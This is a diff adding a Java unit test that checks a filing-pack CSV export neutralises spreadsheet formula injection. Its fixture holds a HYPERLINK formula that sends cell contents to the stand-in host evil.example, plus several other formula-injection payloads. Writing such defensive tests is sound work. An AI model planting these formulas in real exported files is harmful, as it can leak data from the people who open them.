@@ -103,4 +103,28 @@ class FilingPackTest {
         assertTrue(FilingForm.read(formFile).missing().isEmpty());
         assertEquals(FilingForm.REQUIRED.size(), FilingForm.empty().missing().size());
     }
+
+    /**
+     * Issue 19.10: a form value a spreadsheet would run as a formula is written to filing.csv as
+     * text (a leading apostrophe), whatever character starts it; other values are unchanged.
+     */
+    @Test
+    void formulaLikeCellsInFilingCsvAreNeutralised() throws Exception {
+        Path formFile = dir.resolve("form.properties");
+        Files.writeString(formFile, "processor.name = =HYPERLINK(\"http://evil.example/?\"&A1,\"open\")\n", StandardCharsets.UTF_8);
+        FilingForm form = FilingForm.read(formFile);
+        PackSigner signer = PackSigner.fromSecretStore(new MemorySecretStore(), "Example Police", new SecureRandom(),
+                Instant.now());
+        Path folder = dir.resolve("pack");
+        FilingPack.write(content(form), folder, FONT, signer, Files.readAllBytes(formFile));
+        String csv = Files.readString(folder.resolve("filing.csv"), StandardCharsets.UTF_8);
+        assertTrue(csv.contains(",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"open\"\")\""), csv);
+        assertFalse(csv.contains(",=HYPERLINK"), csv);
+        assertTrue(csv.contains(",100000\r\n"), "plain values stay as they are: " + csv);
+        for (String risky : new String[] {"=1+1", "+1", "-1+cmd", "@SUM(A1)", "\t=1", "\r=1"}) {
+            String cell = FilingPack.csv(List.of(List.of(risky)));
+            assertTrue(cell.startsWith("\uFEFF'" + risky) || cell.startsWith("\uFEFF\"'" + risky), cell);
+        }
+        assertEquals("\uFEFFsafe\r\n", FilingPack.csv(List.of(List.of("safe"))));
+    }
 }
